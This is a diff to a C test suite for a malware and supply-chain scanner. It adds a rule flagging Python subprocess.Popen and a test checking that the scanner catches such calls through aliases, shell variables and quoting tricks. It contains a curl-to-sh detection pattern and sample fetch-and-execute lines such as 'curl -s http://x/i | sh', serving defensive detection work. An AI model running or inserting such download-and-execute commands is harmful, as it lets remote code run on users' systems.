@@ -41,6 +41,12 @@ static const char rules[] =
     "    severity: critical\n"
     "    pattern: 'curl\\s[^|\\n]*\\|\\s*(ba)?sh\\b'\n"
     "    description: D\n"
+    "  - id: popen\n"
+    "    title: a program started\n"
+    "    category: download-exec\n"
+    "    severity: high\n"
+    "    pattern: '\\bsubprocess\\.Popen\\('\n"
+    "    description: D\n"
     "  - id: workflow\n"
     "    title: Workflow\n"
     "    category: install-hook\n"
@@ -642,6 +648,63 @@ START_TEST(normalised_view)
 }
 END_TEST
 
+/* Names a file gives to what the rules watch are read as their targets
+ * (scan_alias.h), on every line that uses them. */
+START_TEST(alias_view)
+{
+	struct finding_list fl;
+	const struct finding *f;
+	char *t;
+	size_t n = 20000, o;
+
+	scan_str("a.py", "import subprocess as sp\nx = 1\nsp.Popen(cmd)\n", &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	f = tu_first(&fl, "popen");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, 3);
+	ck_assert_uint_eq(f->column, 1);
+	ck_assert_str_eq(f->excerpt, "via alias: subprocess.Popen(cmd)");
+	finding_list_free(&fl);
+	/* Defined below its use, and through another alias. */
+	scan_str("a.py", "def f():\n    run(cmd)\nimport subprocess as sp\n"
+	    "run = sp.Popen\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
+	ck_assert_uint_eq(tu_first(&fl, "popen")->line, 2);
+	finding_list_free(&fl);
+	/* A shell variable, with the view's other readings. */
+	scan_str("a.sh", "c=curl\n$c -s http://x/i | s''h\n", &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "via shell quoting, alias: curl -s http://x/i | sh");
+	finding_list_free(&fl);
+	/* Found by the bytes: once, not again through the view. */
+	scan_str("a.sh", "c=curl\n\ncurl -s http://x/i | sh # $c\n", &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	ck_assert_str_eq(fl.v[0].excerpt, "curl -s http://x/i | sh # $c");
+	finding_list_free(&fl);
+	/* Names of modules nothing watches, and a method of that name on
+	 * another object, are left alone. */
+	scan_str("a.py", "import numpy as sp\nsp.Popen(x)\n", &fl);
+	ck_assert_uint_eq(fl.n, 0);
+	finding_list_free(&fl);
+	scan_str("a.py", "import subprocess as sp\nobj.sp.Popen(x)\n", &fl);
+	ck_assert_uint_eq(fl.n, 0);
+	finding_list_free(&fl);
+	/* A use far into one long line (read in overlapping windows). */
+	t = malloc(n + 64);
+	ck_assert_ptr_nonnull(t);
+	o = (size_t)snprintf(t, n, "import subprocess as sp;");
+	while (o < n - 100)
+		o += (size_t)snprintf(t + o, n - o, "a%zu=1;", o);
+	snprintf(t + o, n + 64 - o, "sp.Popen(cmd)\n");
+	scan_str("a.py", t, &fl);
+	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
+	ck_assert_uint_gt(tu_first(&fl, "popen")->column, 16000);
+	finding_list_free(&fl);
+	free(t);
+}
+END_TEST
+
 /* PowerShell's -EncodedCommand: base64 of UTF-16LE, read as the text. */
 START_TEST(base64_of_utf16)
 {
@@ -997,6 +1060,7 @@ engine_suite(void)
 	tcase_add_test(tc, lone_cr_ends_a_line);
 	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, normalised_view);
+	tcase_add_test(tc, alias_view);
 	tcase_add_test(tc, base64_of_utf16);
 	tcase_add_test(tc, base64_of_zlib);
 	tcase_add_test(tc, pickles);
